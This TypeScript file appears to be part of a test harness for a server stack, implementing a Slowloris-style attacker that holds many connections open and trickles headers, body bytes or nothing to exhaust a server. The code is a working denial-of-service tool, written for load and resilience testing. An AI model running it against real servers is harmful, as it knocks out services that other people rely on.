import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { CLIENT } from '../../network/addresses';

/**
 * The attacker's process, in the network of the stack's users: `attacker.ts <kind> <connections> <address> <site>`. It keeps so many
 * connections open, each in its way, and opens a new one for each that is closed. It has an address of its own, hence ports of its own. It says "ready" once, and ends with whoever started it.
 */
export type Attack = 'slow-headers' | 'slow-body' | 'idle';

/** What a connection sends first, and then every second. */
const WAYS: Readonly<Record<Attack, readonly [string, string]>> = {
  'slow-headers': ['GET / HTTP/1.1\r\nHost: www.foobar.com\r\n', 'X-Slow: 1\r\n'],
  'slow-body': ['POST /notes HTTP/1.1\r\nHost: www.foobar.com\r\nContent-Length: 10000\r\n\r\n', 'a'],
  idle: ['GET /static/home.css HTTP/1.1\r\nHost: www.foobar.com\r\n\r\n', ''],
};
/** So many connections are opened at once, and so long is waited after them, in milliseconds. */
const [AT_ONCE, PAUSE] = [10, 20];

const [kind = 'idle', count = '1', host = '', site = ''] = process.argv.slice(2);
const { protocol, hostname, port } = new URL(site);
const [first, again] = WAYS[kind as Attack];
const open = new Set<Socket>();
let established = 0;
let isReady = false;

process.on('disconnect', () => process.exit());
setInterval(() => {
  if (again) for (const socket of open) socket.write(again);
}, 1000);
setInterval(() => {
  const missing = Number(count) - open.size;
  for (let i = 0; i < Math.min(missing, AT_ONCE); i++) start();
  if (established < Number(count) || isReady) return;
  isReady = true;
  process.send?.('ready');
}, PAUSE);

function start(): void {
  const begin = () => {
    established += 1;
    socket.write(first);
  };
  const to = {
    host,
    port: Number(port) || (protocol === 'https:' ? 443 : 80),
    localAddress: CLIENT.attacker,
  };
  const socket =
    protocol === 'https:'
      ? connectTls({ ...to, servername: hostname, rejectUnauthorized: false }, begin)
      : connect(to, begin);
  socket.on('data', () => {}).on('error', () => {});
  socket.on('close', () => open.delete(socket));
  open.add(socket);
}
